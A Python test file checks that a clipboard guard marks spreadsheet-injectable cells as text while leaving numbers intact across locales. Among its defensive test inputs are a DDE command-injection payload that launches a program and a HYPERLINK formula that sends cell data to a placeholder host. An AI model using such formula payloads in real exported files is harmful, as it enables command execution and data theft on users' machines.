"""Copied text never becomes a formula in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ibmonitor.exporting.formulas import TEXT_MARK
from ibmonitor.models.text.formats import number_text
from ibmonitor.windows.widgets.clipboard import guarded, guarded_lines


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+", "@", "-cmd|' /C calc'!A0", "+A1", "-A1",
     " =1", "\N{NO-BREAK SPACE}=1", "\0=1", "\N{ZERO WIDTH SPACE}=1", '"=1+1"', '""-A1', "＝1+1", "－1+1",
     "-1,234.50 USD",
     "-1.234,50", "--5", "-5-", "-0x1", "-١", "-Infinity", "+1\n", '=HYPERLINK("http://x/?"&A1)'],
)  # fmt: skip
def test_cells_that_could_be_calculated_are_marked_as_text(cell: str) -> None:
    assert guarded(cell) == TEXT_MARK + cell


@pytest.mark.parametrize(
    "cell",
    ["", "0", "-5", "+5", "-0.25", "+1,234.50", "-1234567", "-1,234,567.8901", "-1E+40", "AAPL", "a=b", "1=1", "été",
     "x -1", "(=1)", "'=1", "2026-11-23 14:03:12", "U1234567", "✔ done", "— unknown", '"reason": "x"', '"'],
)  # fmt: skip
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


@pytest.mark.parametrize(
    ("locale", "number", "other"),
    [
        ("de_DE", "-1.234,50", "-1,234.50"),
        ("fr_FR", "-1\N{NARROW NO-BREAK SPACE}234,5", "-1,234.5"),
        ("fr_FR", "-1 234,5", "-1.234,5"),
    ],
    indirect=["locale"],
)
def test_what_a_number_is_depends_on_the_locale(number: str, other: str) -> None:
    assert guarded(number) == number
    assert guarded(other) == TEXT_MARK + other


@pytest.mark.parametrize("locale", ["en_US", "de_DE", "fr_FR", "de_CH", "hi_IN"], indirect=True)
def test_every_number_as_it_is_written_stays_one() -> None:
    @given(st.decimals(allow_nan=False, allow_infinity=False))
    def stays(number: object) -> None:
        text = number_text(number)  # type: ignore[arg-type]
        assert guarded(text) == text
        copied = " ".join(text.split())
        assert guarded(copied) == copied

    stays()


@given(st.text(max_size=12))
def test_nothing_is_lost_and_nothing_dangerous_left(cell: str) -> None:
    made = guarded(cell)
    assert made in {cell, TEXT_MARK + cell}
    if made[:1] in set("=@＝＋－＠\t\r"):
        pytest.fail(made)
    if made[:1] in set("+-"):
        assert made[1:2].isdigit()


def test_each_line_and_each_part_between_tabs_is_guarded() -> None:
    assert guarded_lines("Code: 201\n=1\tx\t@y\n\r-a") == "Code: 201\n'=1\tx\t'@y\n\n'-a"
    assert guarded_lines("one\r\n=two\n") == "one\n'=two\n"
    assert guarded_lines("") == ""
